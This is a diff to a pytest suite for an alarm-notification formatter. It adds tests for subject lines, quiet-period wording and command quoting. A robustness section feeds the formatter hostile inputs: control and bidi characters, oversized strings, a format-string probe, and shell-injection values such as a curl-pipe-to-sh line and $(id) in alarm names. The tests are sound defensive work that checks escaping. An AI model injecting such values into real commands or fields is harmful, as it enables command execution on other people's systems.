@@ -3,7 +3,7 @@
 import json
 import re
 from dataclasses import replace
-from datetime import timedelta
+from datetime import datetime, timedelta, timezone
 from pathlib import Path
 from typing import Any
 
@@ -91,6 +91,36 @@ def test_since_when() -> None:
 def test_how_often_where_it_flaps() -> None:
     flapping = replace(page("database-down"), memory=Memory(NOON, times=4))
     assert part(message(flapping), "Since").endswith("(3 min), 4 times")
+
+
+@pytest.mark.parametrize(
+    ("kind", "line"),
+    [
+        ("flapping", "ALARM: P1 production: Comes and goes: The application has no database"),
+        ("worse", "ALARM: P1 production: Worse: The application has no database"),
+        ("lasting", "ALARM: P1 production: For 60 min now: The application has no database"),
+    ],
+)
+def test_what_is_new_about_it_stands_in_the_subject(kind: Kind, line: str) -> None:
+    assert subject(replace(page("database-down"), kind=kind), NOTIFY) == line
+
+
+def test_what_flaps_says_when_people_hear_more() -> None:
+    flapping = replace(page("database-down"), kind="flapping", memory=Memory(NOON, times=3, told_at=NOON, flapping=True))
+    words = part(message(flapping), "Quiet")
+    assert words == "You hear of it again when it gets worse, or has been clear for 60 min."
+
+
+def test_what_is_told_lower_says_why_and_as_what_it_was_told_before() -> None:
+    lowered = Memory(NOON, told_at=NOON, told_as="P3", loud_at=NOON - timedelta(hours=3))
+    words = message(replace(page("database-impaired"), memory=lowered))
+    assert words.startswith("P3 production: The database is close to its limits\n")
+    assert part(words, "Quiet") == "It comes back within 24 hours of 2026-03-02 09:00 UTC, when it was told as a P2."
+    assert part(words, "Who") == "L1 on-call engineer, within 4 hours"
+
+
+def test_an_ordinary_message_does_not_speak_of_quiet() -> None:
+    assert "Quiet" not in message(page("database-down"))
 
 
 def test_the_value_against_the_line() -> None:
@@ -345,3 +375,72 @@ def test_the_chat_gets_a_custom_notification_in_one_thread_an_incident() -> None
     assert opened["content"]["title"] == "P1 production: The service fails for its users"
     assert "*Runbook*: 3.1 High Error Rate (5XX)" in opened["content"]["description"]
     assert opened["metadata"]["threadId"] == closed["metadata"]["threadId"]
+
+
+# What others wrote must not break a message, nor look like a part of it
+
+HOSTILE = {
+    "newlines": "a\n\nRunbook\n  https://elsewhere\r\nWho\n  nobody",
+    "other newlines": "a\x0b\x0cRunbook\x1c\x85Who\u2028Since\u2029",
+    "control characters": "".join(map(chr, range(32))) + "\x7f\x9b\x1b[2J",
+    "writing from the right": "\u202egnihton\u2066\u200f",
+    "half a character": "\ud83d and \udc00",
+    "huge": "x" * 400_000,
+    "huge, of four bytes": "\U0001f525" * 100_000,
+    "huge, of quotes": '"\\\\' * 100_000,
+    "huge, of lines": "\n" * 100_000,
+    "for a shell": "'; curl elsewhere | sh; $(id) `id`",
+    "for a format": "{environment.__class__} %s {0}",
+}
+TITLES = {
+    "Incident", "Since", "Measured", "No data", "Likely cause", "Automation", "Last deployment", "First command", "Runbook",
+    "Alarm", "Logs", "Dashboard", "Who", "Silence it for 60 min", "Status page, investigating", "Status page, identified",
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("words", HOSTILE.values(), ids=HOSTILE)
+@pytest.mark.parametrize("name", [PRODUCTION.page("service-down"), "an alarm of others; $(id)"])
+def test_whatever_others_wrote_a_message_fits_and_has_only_its_own_parts(words: str, name: str) -> None:
+    found = alarm(name, AlarmDescription=words, StateReason=words, StateReasonData=words)
+    one = Notification("open", found, Memory(NOON, told_at=NOON, incident=words[:300]))
+    outcome = replace(OUTCOME, reason=words, done=words)
+    situation = Situation(NOON, [found], outcome, "", words)
+    said = text(one, situation, NOTIFY)
+    first, *lines = [line for line in said.splitlines() if line]
+    assert {line for line in lines if not line.startswith(" ")} <= TITLES
+    assert first.startswith("P")
+    assert len(subject(one, NOTIFY)) <= 100
+    assert subject(one, NOTIFY).isprintable()
+    whole = json.dumps({"default": said, "https": for_pagerduty(one, said)}, ensure_ascii=False)
+    assert len(whole.encode()) <= 262_144
+    chat = json.loads(for_chat(one, situation, NOTIFY))["content"]
+    assert len(chat["description"]) <= 3000
+    assert len(chat["title"]) <= 200
+    assert "*Automation*" in chat["description"]
+
+
+def test_a_name_of_others_is_quoted_in_the_command_that_silences_it() -> None:
+    found = page("service-down")
+    found = replace(found, alarm=replace(found.alarm, name="a name; $(id)"))
+    assert "--name 'a name; $(id)' --mute-targets AlarmNames='a name; $(id)'" in message(found)
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        '{"recentDatapoints": ["a"]}', '{"recentDatapoints": [NaN]}', '{"recentDatapoints": [1e999]}',
+        '{"recentDatapoints": [' + "9" * 400 + "]}", '{"recentDatapoints": [[]]}', '{"recentDatapoints": {}}', "[" * 100_000, "7",
+    ],
+)  # fmt: skip
+def test_a_value_that_is_none_is_not_shown_as_one(data: str) -> None:
+    found = alarm(PRODUCTION.alarm("rds-cpu", "critical"), StateReasonData=data)
+    assert found.measured.endswith(": Threshold Crossed")
+
+
+@pytest.mark.parametrize("year", [1, 1970, 9999])
+def test_a_state_from_the_ends_of_time_has_a_message(year: int) -> None:
+    since = datetime(year, 1, 1, tzinfo=timezone(timedelta(hours=14)))
+    found = alarm(PRODUCTION.page("service-down"), StateTransitionedTimestamp=since).by(NOON)
+    said = text(Notification("open", found, Memory(found.since)), Situation(NOON, [], None), NOTIFY)
+    assert said.startswith("P1 production: The service fails for its users")
+    assert found.since <= NOON
